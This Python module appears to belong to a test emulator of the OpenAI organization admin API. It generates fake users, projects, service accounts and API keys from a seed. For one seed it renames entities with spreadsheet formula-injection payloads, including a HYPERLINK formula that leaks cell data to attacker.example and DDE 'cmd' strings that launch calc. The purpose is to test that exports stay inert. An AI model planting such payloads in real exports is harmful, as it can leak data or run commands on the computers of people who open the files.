"""The emulated organization's directory: a pure function of the seed.

Everything has a creation time between ORG_START and CREATION_END, so projects, users and
keys appear over time; what the API shows depends on the clock (`visible_at`).
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from functools import lru_cache

from connectors.openai.emulator.catalog import CREATION_END, DAY, HOUR, ORG_START
from connectors.openai.emulator.mix import between, h64, ident, pick, text_key, unit

_FIRST = (
    "Ada",
    "Grace",
    "Alan",
    "Edsger",
    "Barbara",
    "Ken",
    "Margaret",
    "Linus",
    "Frances",
    "Donald",
    "Radia",
    "John",
    "Katherine",
    "Tim",
    "Hedy",
    "Dennis",
)
_LAST = (
    "Lovelace",
    "Hopper",
    "Turing",
    "Dijkstra",
    "Liskov",
    "Thompson",
    "Hamilton",
    "Torvalds",
    "Allen",
    "Knuth",
    "Perlman",
    "Backus",
    "Johnson",
    "Lee",
    "Lamarr",
    "Ritchie",
)
_PROJECTS = (
    "Default project",
    "Support Bot",
    "Search",
    "Data Pipeline",
    "Marketing Copy",
    "Internal Tools",
    "Mobile App",
    "Research",
    "Voice Assistant",
    "Analytics",
)
_KEY_NAMES = ("production", "staging", "ci", "notebook", "backend", "batch jobs", "cron")
_RESIDENCIES = ("GLOBAL", "GLOBAL", "GLOBAL", "US_STORAGE_PROCESSING", "EU_STORAGE_PROCESSING")
_TIMEZONES = (-8, -5, 0, 1, 2, 5, 9)


@dataclass(frozen=True)
class User:
    id: str
    name: str
    email: str
    role: str
    added_at: int


@dataclass(frozen=True)
class Member:
    user_id: str
    role: str
    added_at: int


@dataclass(frozen=True)
class ServiceAccount:
    id: str
    name: str
    role: str
    created_at: int


@dataclass(frozen=True)
class Project:
    id: str
    name: str
    created_at: int
    archived_at: int | None
    residency: str
    tz: int
    discount_pct: int
    spend_limit_cents: int | None
    members: tuple[Member, ...]
    service_accounts: tuple[ServiceAccount, ...]
    vector_stores: tuple[str, ...]


@dataclass(frozen=True)
class ApiKey:
    id: str
    name: str
    project_id: str
    owner_kind: str  # user | service_account
    owner_id: str
    created_at: int
    deleted_at: int | None
    used: bool
    owner_access: str  # active | inactive
    tail: str
    expires_at: int | None = None  # an expired key stops working; it stays listed

    @property
    def user_id(self) -> str | None:
        """The user_id usage rows carry: a service account's usage has none."""
        return self.owner_id if self.owner_kind == "user" else None


@dataclass(frozen=True)
class AdminKey:
    id: str
    name: str
    created_at: int
    expires_at: int | None
    owner_id: str
    tail: str


@dataclass(frozen=True)
class Org:
    seed: int
    users: tuple[User, ...]
    projects: tuple[Project, ...]
    keys: tuple[ApiKey, ...]
    admin_keys: tuple[AdminKey, ...]
    spend_limit_cents: int

    def project(self, project_id: str) -> Project | None:
        return next((p for p in self.projects if p.id == project_id), None)

    def user(self, user_id: str) -> User | None:
        return next((u for u in self.users if u.id == user_id), None)

    def usage_end(self, key: ApiKey) -> int | None:
        """When a key's usage stops: it was deleted, expired or its project archived."""
        project = self.project(key.project_id)
        archived = project.archived_at if project else None
        ends = [t for t in (key.deleted_at, key.expires_at, archived) if t]
        return min(ends) if ends else None


def visible_at(created: int, now: int) -> bool:
    return created <= now


# The organization of this seed has members who named things as a spreadsheet would run
# them (any project member may name a key): exports must keep such names inert text.
HOSTILE_SEED = 1337
HOSTILE_NAMES = (
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Open report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)


@lru_cache(maxsize=32)
def build_org(seed: int) -> Org:
    org = _build_org(seed)
    return _hostile(org) if seed == HOSTILE_SEED else org


def _hostile(org: Org) -> Org:
    """The first projects, users and keys renamed with HOSTILE_NAMES, in turn."""
    names = HOSTILE_NAMES

    def renamed(items: tuple, shift: int) -> tuple:
        return tuple(
            replace(item, name=names[(i + shift) % len(names)]) if i < len(names) else item
            for i, item in enumerate(items)
        )

    return replace(
        org,
        projects=renamed(org.projects, 0),
        users=renamed(org.users, 1),
        keys=renamed(org.keys, 3),
    )


def _build_org(seed: int) -> Org:
    users = _users(seed)
    projects = tuple(_project(seed, i, users) for i in range(7 + h64(seed, 1) % 3))
    projects = tuple(sorted(projects, key=lambda p: p.created_at))
    keys = _keys(seed, projects)
    owner = users[0]
    admin_keys = tuple(
        AdminKey(
            id=ident("key_", seed, 50, i, length=16),
            name=name,
            created_at=ORG_START + (i * 97 + 3) * DAY,
            expires_at=None if i != 2 else ORG_START + 900 * DAY,
            owner_id=owner.id,
            tail=ident("", seed, 51, i, length=4),
        )
        for i, name in enumerate(("Data Hub read-only", "Terraform", "Billing export"))
    )
    limit = 500_000 + 100_000 * (h64(seed, 2) % 20)
    return Org(seed, users, projects, keys, admin_keys, limit)


def _spread(seed: int, index: int, count: int, salt: int) -> int:
    """A creation time: early entities first, the rest spread up to CREATION_END."""
    if index == 0:
        return ORG_START + int(h64(seed, salt, 0) % (3 * DAY))
    span = CREATION_END - ORG_START
    slot = span * index // count
    jitter = int(unit(h64(seed, salt, index)) * span / count)
    return ORG_START + min(slot + jitter, span - DAY)


def _users(seed: int) -> tuple[User, ...]:
    count = 10 + h64(seed, 3) % 5
    users = []
    for i in range(count):
        first = _FIRST[(h64(seed, 4) + i) % len(_FIRST)]
        last = _LAST[(h64(seed, 5) + i * 7) % len(_LAST)]
        users.append(
            User(
                id=ident("user-", seed, 6, i),
                name=f"{first} {last}",
                email=f"{first.lower()}.{last.lower()}@example.com",
                role="owner" if i == 0 or h64(seed, 7, i) % 6 == 0 else "reader",
                added_at=_spread(seed, i, count, 8),
            )
        )
    return tuple(sorted(users, key=lambda u: u.added_at))


def _project(seed: int, i: int, users: tuple[User, ...]) -> Project:
    created = _spread(seed, i, 9, 9)
    archived = None
    if i in (2, 5):
        archived = created + int(between(h64(seed, 10, i), 90, 300)) * DAY
    h = h64(seed, 11, i)
    return Project(
        id=ident("proj_", seed, 12, i),
        name=_PROJECTS[i % len(_PROJECTS)],
        created_at=created,
        archived_at=archived,
        residency=pick(h, _RESIDENCIES),
        tz=pick(h >> 8, _TIMEZONES),
        discount_pct=int(h >> 16) % 4 * 3,
        spend_limit_cents=None if h >> 24 & 3 == 0 else 10_000 * (1 + (h >> 26) % 50),
        members=_members(seed, i, created, users),
        service_accounts=_service_accounts(seed, i, created),
        vector_stores=tuple(ident("vs_", seed, 13, i, n) for n in range(h >> 32 & 3)),
    )


def _members(seed: int, i: int, created: int, users: tuple[User, ...]) -> tuple[Member, ...]:
    count = 2 + h64(seed, 14, i) % 4
    chosen = [users[0]] + [
        users[(h64(seed, 15, i, n) % (len(users) - 1)) + 1] for n in range(count)
    ]
    members: dict[str, Member] = {}
    for n, user in enumerate(chosen):
        added = max(created, user.added_at) + int(h64(seed, 16, i, n) % (5 * DAY))
        role = "owner" if n == 0 else "member"
        members.setdefault(user.id, Member(user.id, role, added))
    return tuple(sorted(members.values(), key=lambda m: m.added_at))


def _service_accounts(seed: int, i: int, created: int) -> tuple[ServiceAccount, ...]:
    return tuple(
        ServiceAccount(
            id=ident("svc_acct_", seed, 17, i, n),
            name=f"{('deploy', 'etl')[n]} bot",
            role="member" if n else "owner",
            created_at=created + int((n + 1) * between(h64(seed, 18, i, n), 2, 40) * DAY),
        )
        for n in range(h64(seed, 19, i) % 3)
    )


def _keys(seed: int, projects: tuple[Project, ...]) -> tuple[ApiKey, ...]:
    keys: list[ApiKey] = []
    for project in projects:
        owners = [("user", m.user_id, m.added_at) for m in project.members]
        owners += [("service_account", s.id, s.created_at) for s in project.service_accounts]
        for n in range(2 + h64(seed, 20, text_key(project.id)) % 3):
            keys.append(_key(seed, project, n, owners, ordinal=len(keys)))
    return tuple(sorted(keys, key=lambda k: k.created_at))


def _key(seed: int, project: Project, n: int, owners: list, ordinal: int) -> ApiKey:
    h = h64(seed, 21, text_key(project.id), n)
    kind, owner_id, owner_since = pick(h, owners)
    created = max(project.created_at, owner_since) + int(unit(h >> 3) * 20 * DAY) + HOUR
    if project.archived_at:
        created = min(created, project.archived_at - DAY)
    deleted = None
    if n > 0 and (ordinal == 3 or unit(h64(h, 1)) < 0.15):
        deleted = created + int(between(h64(h, 2), 20, 200) * DAY)
    unused = n > 0 and deleted is None and (ordinal == 5 or unit(h64(h, 3)) < 0.08)
    inactive = kind == "user" and unit(h64(h, 4)) < 0.12
    expires = None  # about a fifth of the keys are created with a lifetime
    if unit(h64(h, 5)) < 0.2:
        expires = created + pick(h64(h, 6), (90, 180, 365, 730)) * DAY
    return ApiKey(
        id=ident("key_", seed, 22, h, length=16),
        name=f"{project.name.lower()} {pick(h >> 9, _KEY_NAMES)}",
        project_id=project.id,
        owner_kind=kind,
        owner_id=owner_id,
        created_at=created,
        deleted_at=deleted,
        used=not unused,
        owner_access="inactive" if inactive else "active",
        tail=ident("", seed, 23, h, length=4),
        expires_at=expires,
    )
